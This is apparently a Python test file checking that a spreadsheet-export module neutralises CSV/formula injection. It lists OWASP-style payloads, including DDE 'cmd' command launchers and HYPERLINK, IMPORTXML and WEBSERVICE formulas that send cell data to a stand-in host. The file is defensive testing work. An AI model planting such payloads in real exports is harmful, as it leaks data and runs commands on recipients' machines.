"""core/excel.py: text stays text in every spreadsheet the system writes (formula injection, OWASP
"CSV injection"), numbers stay numbers, and no other module writes spreadsheets itself."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from shequ.core.excel import FORMULA_TRIGGERS, write_csv, write_xlsx

# OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and the one
# the tester used on the secretary's export.
PAYLOADS = [
    '=HYPERLINK("http://e.x/?"&TEXTJOIN(",",1,H:H),"核对")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    '=IMPORTXML(CONCAT("http://e.x/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://e.x/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=",
    "-",
    "+86 139 1234 5678",
    "-1",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "shequ"


def _cells(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[c for c in row] for row in sheet.iter_rows()]


def test_no_payload_becomes_a_formula_and_the_text_reads_back_unchanged() -> None:
    content = write_xlsx(["name", "notes"], [[p, f"note {p}"] for p in PAYLOADS])
    rows = _cells(content)[1:]
    # XML reads a carriage return as a line feed: the same line break on screen.
    expected = [p.replace("\r", "\n") for p in PAYLOADS]
    assert [r[0].value for r in rows] == expected
    assert [r[1].value for r in rows] == [f"note {p}" for p in expected]
    assert all(c.data_type == "s" for r in rows for c in r)
    # The file itself holds no formula element anywhere.
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_text_that_would_start_a_formula_is_marked_as_text_for_excel() -> None:
    rows = _cells(write_xlsx(["a"], [[p] for p in PAYLOADS] + [["张三"]]))[1:]
    for row in rows[:-1]:
        cell = row[0]
        if cell.value.startswith(FORMULA_TRIGGERS):
            # Excel's own marking of typed '=...: shown as it is, and still text when edited.
            assert cell.quotePrefix and cell.number_format == "@", cell.value
    assert not rows[-1][0].quotePrefix


def test_a_header_from_an_uploaded_file_is_text_too() -> None:
    header = _cells(write_xlsx(["=1+1", "姓名"], []))[0]
    assert [c.value for c in header] == ["=1+1", "姓名"] and header[0].data_type == "s" and header[0].quotePrefix
    assert header[1].font.b


def test_numbers_stay_numbers_and_the_cells_after_a_quoted_one_keep_no_style() -> None:
    rows = _cells(write_xlsx(["a", "b", "c", "d", "e"], [["=x", -3, -2.5, Decimal("-1.5"), "plain"], [-7, 0, "", None, 1]]))
    first, second = rows[1], rows[2]
    assert [c.value for c in first] == ["=x", -3, -2.5, -1.5, "plain"]
    assert [c.data_type for c in first[1:4]] == ["n", "n", "n"]
    assert first[1].number_format == "General" and not first[4].quotePrefix
    assert second[0].value == -7 and second[0].data_type == "n"


def test_characters_xml_cannot_hold_do_not_break_the_export() -> None:
    rows = _cells(write_xlsx(["a"], [["张\x07三"], ["\x01=1+1"], ["x" * 40000]]))
    assert rows[1][0].value == "张\ufffd三"
    assert rows[2][0].value == "\ufffd=1+1" and rows[2][0].data_type == "s"
    assert len(rows[3][0].value) == 32767


def test_all_text_puts_every_text_cell_in_the_text_format() -> None:
    rows = _cells(write_xlsx(["a", "b"], [["110101198001010011", 5]], all_text=True))
    assert rows[1][0].number_format == "@" and rows[1][0].value == "110101198001010011"
    assert rows[1][1].value == 5


def test_csv_prefixes_formula_starts_with_an_apostrophe_and_leaves_numbers_alone() -> None:
    content = write_csv(["姓名", "n"], [[p, -3] for p in PAYLOADS] + [["张三", 2.5]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["姓名", "n"]
    for payload, row in zip(PAYLOADS, rows[1:], strict=False):
        assert row == ["'" + payload if payload.startswith(FORMULA_TRIGGERS) else payload, "-3"]
    assert rows[-1] == ["张三", "2.5"]
    # Numbers are not quoted (a spreadsheet reads them as numbers); text always is.
    assert content.decode("utf-8-sig").splitlines()[-1] == '"张三",2.5'


_WRITERS = re.compile(r"^\s*(from openpyxl|import openpyxl)|csv\.(writer|DictWriter)\(", re.MULTILINE)


def test_every_spreadsheet_the_system_writes_goes_through_core_excel() -> None:
    """A module that imports openpyxl or makes a csv writer writes spreadsheets itself, around the
    text rule: it must use core/excel.py instead."""
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                 if p.name != "excel.py" and _WRITERS.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
